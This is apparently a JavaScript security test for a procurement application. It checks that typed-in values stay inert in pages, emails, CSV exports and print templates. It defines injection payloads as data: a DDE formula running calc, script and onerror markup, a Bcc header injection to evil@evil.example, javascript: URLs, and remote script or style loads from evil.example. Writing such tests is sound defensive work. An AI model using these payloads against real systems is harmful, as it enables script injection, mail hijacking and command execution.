import { randomBytes, randomUUID } from 'node:crypto';

import { createClient } from '../client.mjs';
import { mailsOf } from '../mails.mjs';

const MAIL_WITHIN_MS = 20_000;
const FORMULA = "=cmd|'/c calc'!A0";
const MARKUP = `"'><script>globalThis.broken=1</script><img src=x onerror="globalThis.broken=1"></title></style>`;
const HEADER = 'X\nBcc: evil@evil.example\nX-Injected: 1';
/** What somebody types where a name is asked for; where it must come out, it comes out as text. */
const TEXTS = { markup: MARKUP, formula: FORMULA, header: HEADER };
/** Markup of a text that would be alive. */
const ALIVE = /<script>globalThis|<img src=x|"onerror|<[^>]*\sonerror="?globalThis/;
/** Cells that spreadsheets would compute. */
const COMPUTED = /(?:^|[\n;,\t"])[=@]/;
/** Places where no value is harmless: pages that have them are no templates. */
const NO_PLACES = {
  'what a page is refreshed with': '<meta http-equiv="refresh" content="{{custom.text}}"><p>x</p>',
  'what kind of statement it is': '<meta http-equiv="{{custom.text}}" content="0;url=//evil.example"><p>x</p>',
  'where all addresses begin': '<base href="{{custom.text}}"><p>x</p>',
};
const HEADERS = new Set([
  ...['from', 'to', 'reply-to', 'message-id', 'subject', 'date', 'mime-version', 'content-type', 'auto-submitted'],
  'content-transfer-encoding',
]);

/** Places of values in pages that are printed, and texts that would make them do or load something there. */
const PLACES = {
  'the name of an element': ['<{{custom.text}}>x</p>', 'script src=//evil.example'],
  'the content of a statement': ['<meta name="x" content={{custom.text}}>', 'x http-equiv=refresh'],
  'an address': ['<a href="{{custom.text}}">x</a>', 'javascript:globalThis.broken=1'],
  'an address with spaces': ['<a href="{{custom.text}}">x</a>', 'java\tscript:globalThis.broken=1'],
  'an address of data': ['<a href="{{custom.text}}">x</a>', 'data:text/html,<script>1</script>'],
  'an address without quotes': ['<a href={{custom.text}}>x</a>', 'https://a.example onmouseover=x()'],
  'an attribute without quotes': ['<p title={{custom.text}}>x</p>', 'x style=background:url(//evil.example)'],
  'a style': ['<p style="color:{{custom.text}}">x</p>', 'red;background:url(//evil.example)'],
  'a text in styles': ['<style>p::before{content:"{{custom.text}}"}</style>', '\\";}p{background:url(//evil.example)'],
};

/**
 * What people type into records, in what others open: pages, mails, tables, documents. Markup is shown, lines stay in their
 * headers, formulas are texts, and no value turns an attribute of a template into something that acts.
 */
export async function texts({ arena, tally }) {
  const slug = `texts-${randomBytes(3).toString('hex')}`;
  await arena.addPortal(slug);
  const owner = arena.signedIn(slug);
  const context = { arena, tally, owner, slug, made: await typed(owner) };
  await pages(context);
  await mails(context);
  await tables(context);
  await templates(context);
}

async function must(call, what) {
  const answer = await call;
  if (answer.status >= 300 || answer.status === 0)
    throw new Error(`${what} is answered with ${answer.status}: ${answer.text.slice(0, 400)}`);
  return answer.body;
}

/** Everything that pages, mails and tables are made of, under each of the texts. */
async function typed(owner) {
  await must(owner.post('/settings/seller-profiles', { name: MARKUP, inn: '7707083893' }), 'a company');
  const made = [];
  for (const [kind, text] of Object.entries(TEXTS)) {
    const email = `${kind}@supplier.example`;
    const supplier = await must(
      owner.post('/counterparties', {
        name: text,
        legalName: text,
        legalAddress: text,
        isSupplier: true,
        email,
        comment: text,
      }),
      `a supplier called ${kind}`,
    );
    const items = [{ rawName: text, quantity: '1', unitPrice: '10.00' }];
    const requisition = await must(
      owner.post('/purchase-requisitions', { name: text, comment: text, items }),
      `a requisition called ${kind}`,
    );
    const drafted = await must(
      owner.post('/supplier-rfqs', {
        procurementId: requisition.id,
        supplierId: supplier.id,
        subject: text,
        message: text,
      }),
      `a price request about ${kind}`,
    );
    const [rfq] = drafted.items;
    const order = await must(
      owner.post('/purchase-orders', { procurementId: requisition.id, supplierId: supplier.id, items }),
      `an order about ${kind}`,
    );
    made.push({ kind, text, supplier, requisition, rfq, order });
  }
  return made;
}

/** Pages that strangers open by a link, and those of reports: what was typed is there, as text, under a policy that runs nothing. */
async function pages({ arena, tally, owner, slug, made }) {
  const { origin } = arena.server;
  const addresses = { '/reports/spend': owner, '/reports/late': owner };
  for (const { kind, rfq, order, text } of made) {
    const sent = await must(owner.post(`/supplier-rfqs/${rfq.id}/send`, {}), `asking ${kind}`);
    const ordered = await must(owner.post(`/purchase-orders/${order.id}/send`, { message: text }), `ordering ${kind}`);
    for (const [list, { publicUrl }] of [
      ['supplier-rfqs', sent],
      ['purchase-orders', ordered],
    ]) {
      addresses[`/${list}/${publicUrl.split('/').at(-1)}`] = null;
    }
  }
  let shown = 0;
  for (const [path, caller] of Object.entries(addresses)) {
    const headers = caller === null ? {} : { Authorization: `Bearer ${arena.portals[slug].token}` };
    const answer = await fetch(origin + path, { headers, redirect: 'manual' });
    const page = await answer.text();
    const what = `the page ${path.slice(0, 24)}`;
    tally.check(answer.status === 200, `${what} is answered with ${answer.status}`);
    tally.check(!ALIVE.test(page), () => `${what} runs what somebody typed: ${ALIVE.exec(page)?.[0]}`);
    if (page.includes('&lt;script&gt;globalThis')) shown += 1;
    requireStrict({ tally, what, answer });
  }
  tally.check(shown > 1, `only ${shown} pages show what was typed as text`);
  for (const path of ['/docs', '/console', '/login', '/problems']) {
    const answer = await fetch(origin + path, { redirect: 'manual' });
    await answer.text();
    requireStrict({ tally, what: `the page ${path}`, answer });
  }
  const asPage = await fetch(`${origin}/api/v1/counterparties`, {
    headers: { Authorization: `Bearer ${arena.portals[slug].token}`, Accept: 'text/html' },
  });
  await asPage.text();
  const type = asPage.headers.get('content-type');
  tally.check(/^application\/json/.test(type), `a list is answered as ${type} to a browser`);
  tally.check(asPage.headers.get('x-content-type-options') === 'nosniff', 'a list may be taken for a page');
}

function requireStrict({ tally, what, answer }) {
  const policy = answer.headers.get('content-security-policy') ?? '';
  const isStrict = policy.includes("default-src 'none'") && !/unsafe-|\*|https?:/.test(policy);
  tally.check(isStrict || answer.status >= 300, `${what} has the policy ${policy}`);
}

/** Mails have the headers that we write, one recipient, and nothing alive. */
async function mails({ arena, tally, owner, made }) {
  for (const { kind, text } of made) {
    const invited = { email: `${kind}-${randomUUID()}@texts.example`, fullName: text, roles: ['buyer'] };
    const answer = await owner.post('/users', invited);
    tally.check(
      answer.status === 201 || answer.status === 400,
      () => `inviting ${kind} is answered with ${answer.text}`,
    );
  }
  const endsAt = performance.now() + MAIL_WITHIN_MS;
  let sent = [];
  while (sent.length < made.length * 3 && performance.now() < endsAt) {
    await new Promise((resolve) => setTimeout(resolve, 200));
    sent = (await mailsOf(arena)).filter(({ to }) => /@(?:supplier|texts)\.example$/.test(to?.[0]?.address));
  }
  tally.figure('mails', sent.length);
  tally.check(sent.length >= made.length * 2, `only ${sent.length} mails were sent`);
  for (const mail of sent) {
    const strange = mail.headers.map(({ key }) => key).filter((name) => !HEADERS.has(name));
    tally.check(strange.length === 0, `a mail has the headers ${strange.join()}`);
    tally.check(mail.to?.length === 1, () => `a mail goes to ${JSON.stringify(mail.to)}`);
    tally.check(!ALIVE.test(mail.html ?? ''), () => `a mail holds ${ALIVE.exec(mail.html)?.[0]}`);
  }
}

/** Tables hold texts, whoever made them for whom. */
async function tables({ arena, tally, owner }) {
  const datasetToken = randomBytes(24).toString('hex');
  const { id } = await must(owner.post('/integrations/installations', { integrationSlug: 'bi-export' }), 'datasets');
  await must(
    owner.call('PATCH', `/integrations/installations/${id}/config`, { body: { datasetToken } }),
    'the token of datasets',
  );
  await must(owner.post(`/integrations/installations/${id}/enable`), 'turning datasets on');
  const puller = createClient(`${arena.server.origin}/api/v1`, { Authorization: `Bearer ${datasetToken}` });
  const { items } = await must(puller.get('/bi/datasets'), 'the list of datasets');
  const files = {};
  for (const { name, rows } of items.filter(({ rows: count }) => count > 0)) {
    files[`the dataset ${name} of ${rows} rows`] = await puller.get(`/bi/datasets/${name}?format=csv`);
  }
  for (const question of ['spend?groupBy=supplier&', 'suppliers?', 'commitments?']) {
    files[`the answer ${question}`] = await owner.get(`/analytics/${question}format=csv`);
  }
  let held = 0;
  for (const [what, { status, text }] of Object.entries(files)) {
    tally.check(status === 200, () => `${what} is answered with ${status}: ${text.slice(0, 200)}`);
    tally.check(!COMPUTED.test(text), () => `${what} holds a formula: ${COMPUTED.exec(text)?.[0]}`);
    if (text.includes(FORMULA)) held += 1;
  }
  tally.check(held > 2, `only ${held} tables hold what was typed`);
  tally.figure('tables', Object.keys(files).length);
}

/** A value of a record in an attribute of a printed page: it is refused where it would act, and is text everywhere else. */
async function templates({ tally, owner }) {
  const field = { entityType: 'procurement', key: 'text', label: 'Text', type: 'string' };
  await must(owner.post('/settings/custom-fields', field), 'a field of our own');
  const printed = async (body, text) => {
    const items = [{ rawName: 'Cable', quantity: '1', unitPrice: '10.00' }];
    const named = { name: 'Cable', items, customFields: { text } };
    const { id: entityId } = await must(owner.post('/purchase-requisitions', named), 'a requisition with a field');
    const made = await must(
      owner.post('/settings/document-templates', {
        kind: 'PICKING_LIST',
        format: 'html',
        name: randomUUID(),
        body,
        status: 'active',
      }),
      'a template',
    );
    return owner.post(`/settings/document-templates/${made.id}/preview?format=html`, { entityId });
  };
  for (const [what, body] of Object.entries(NO_PLACES)) {
    const template = { kind: 'PICKING_LIST', format: 'html', name: randomUUID(), body };
    const { status, text } = await owner.post('/settings/document-templates', template);
    tally.check(status === 400, () => `a template that leaves open ${what} is answered with ${status}: ${text}`);
  }
  for (const [what, [body, text]] of Object.entries(PLACES)) {
    const answer = await printed(body, text);
    tally.check(
      answer.status === 409 && answer.body?.code === 'preview_failed',
      () => `${what} of a text that acts is answered with ${answer.status}: ${answer.text.slice(0, 200)}`,
    );
  }
  for (const body of [
    '<p title="{{custom.text}}">{{custom.text}}</p>',
    '<a href="https://a.example/{{custom.text}}">x</a>',
    '<meta name="author" content="{{custom.text}}"><p>x</p>',
  ]) {
    const { status, text } = await printed(body, MARKUP);
    tally.check(status === 200, () => `${body} is answered with ${status}: ${text.slice(0, 200)}`);
    tally.check(!ALIVE.test(text), () => `${body} was broken out of: ${text.slice(0, 300)}`);
    tally.check(text.includes('&lt;script&gt;'), `${body} does not show what was typed`);
  }
}
